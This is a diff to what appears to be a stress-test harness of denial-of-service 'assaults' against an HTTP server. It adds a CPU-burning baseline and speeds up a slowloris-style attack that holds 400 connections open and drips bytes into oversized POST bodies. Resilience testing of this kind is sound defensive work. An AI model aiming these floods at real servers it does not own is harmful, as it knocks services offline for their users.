@@ -90,6 +90,12 @@ def _get(target: Target, path: str, *headers: str) -> bytes:
     return "\r\n".join(lines).encode()
 
 
+def computing(target: Target) -> None:
+    """Use a core and leave the server alone: what the others are to be compared with on a small machine."""
+    while True:
+        zlib.crc32(b"\0" * WRITE)
+
+
 def headers_without_end(target: Target) -> None:
     """Send short headers, a million and more."""
     _sending(target, itertools.repeat(b"a: b\r\n" * (WRITE // 6)), b"GET / HTTP/1.1\r\n")
@@ -176,15 +182,14 @@ def silent_connections(target: Target) -> None:
 
 
 def slow_bodies(target: Target) -> None:
-    """Begin hundreds of bodies and let a byte drip into each."""
+    """Begin hundreds of bodies and let a byte drip into one after the other."""
     first = f"POST /createTask HTTP/1.1\r\nhost: {urlsplit(target.url).netloc}\r\ncontent-length: 999999\r\n\r\n"
     held = [target.connect() for _ in range(400)]
     for connection in held:
         connection.sendall(first.encode())
-    while True:
-        for connection in held:
-            connection.sendall(b"a")
-        time.sleep(0.1)
+    for connection in itertools.cycle(held):
+        connection.sendall(b"a")
+        time.sleep(0.002)
 
 
 def compressed_notes(target: Target) -> None:
@@ -226,6 +231,7 @@ def streams(target: Target) -> None:
 
 
 ASSAULTS: dict[str, Assault] = {
+    "nobody, but a core is busy": computing,
     "headers without end": headers_without_end,
     "a request line without end": request_line_without_end,
     "the largest heads": largest_heads,
